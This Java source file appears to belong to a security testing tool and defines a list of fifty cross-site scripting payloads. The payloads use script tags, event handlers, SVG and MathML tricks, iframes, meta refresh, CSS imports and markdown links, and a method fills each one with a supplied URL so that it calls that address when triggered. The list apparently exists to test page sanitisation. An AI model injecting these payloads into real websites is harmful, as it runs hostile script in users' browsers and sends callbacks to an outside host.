package io.lida.proof.faults;

import java.util.ArrayList;
import java.util.List;

/** Fifty texts that become a script in a page that is not careful. */
final class Payloads {
  private static final List<String> CALLS =
      List.of(
          "<script>CALL</script>",
          "<script src=URL/s></script>",
          "\"><script>CALL</script>",
          "</script><script>CALL</script>",
          "</textarea><script>CALL</script>",
          "</title><script>CALL</script>",
          "</style><script>CALL</script>",
          "--><script>CALL</script><!--",
          "]]><script>CALL</script>",
          "<scr<script>ipt>CALL</scr</script>ipt>",
          "<SCRIPT>CALL</SCRIPT>",
          "<script type=module>CALL</script>",
          "<script/x>CALL</script>",
          "<img src=x onerror=\"CALL\">",
          "<img src=x onerror=CALL>",
          "<img/src=x/onerror=CALL>",
          "<img src=URL/img>",
          "<img srcset=URL/srcset>",
          "<image src=x onerror=CALL>",
          "<svg onload=CALL>",
          "<svg><script>CALL</script></svg>",
          "<svg><animate onbegin=CALL attributeName=x dur=1s>",
          "<svg><a xlink:href=\"javascript:CALL\"><text>x</text></a></svg>",
          "<svg><image href=URL/svg></svg>",
          "<svg><use href=URL/use#x></svg>",
          "<svg><foreignObject><script>CALL</script></foreignObject></svg>",
          "<math><mtext><script>CALL</script></mtext></math>",
          "<math href=\"javascript:CALL\">x</math>",
          "<iframe src=\"javascript:CALL\"></iframe>",
          "<iframe srcdoc=\"<script>parent.CALL</script>\"></iframe>",
          "<iframe src=URL/frame></iframe>",
          "<object data=\"URL/object\"></object>",
          "<embed src=\"URL/embed\">",
          "<body onload=CALL>",
          "<video src=x onerror=CALL></video>",
          "<audio src=URL/audio autoplay></audio>",
          "<video poster=URL/poster></video>",
          "<details open ontoggle=CALL>x</details>",
          "<input autofocus onfocus=CALL>",
          "<select autofocus onfocus=CALL></select>",
          "<marquee onstart=CALL>x</marquee>",
          "<link rel=stylesheet href=URL/css>",
          "<link rel=prefetch href=URL/prefetch>",
          "<meta http-equiv=refresh content=\"0;url=URL/refresh\">",
          "<base href=URL/>",
          "<style>@import 'URL/import';</style>",
          "<div style=\"background:url(URL/style)\">x</div>",
          "![image](URL/markdown)",
          "[link](javascript:CALL) <javascript:CALL>",
          "<template><script>CALL</script></template><form action=URL/form><button"
              + " autofocus>x</button></form>");

  private Payloads() {}

  /** The payloads, each calling home under its number. */
  static List<String> calling(String url) {
    List<String> payloads = new ArrayList<>();
    for (int i = 0; i < CALLS.size(); i++) {
      String call = "fetch('" + url + "/p" + i + "')";
      payloads.add(CALLS.get(i).replace("CALL", call).replace("URL", url + "/p" + i));
    }
    return payloads;
  }
}
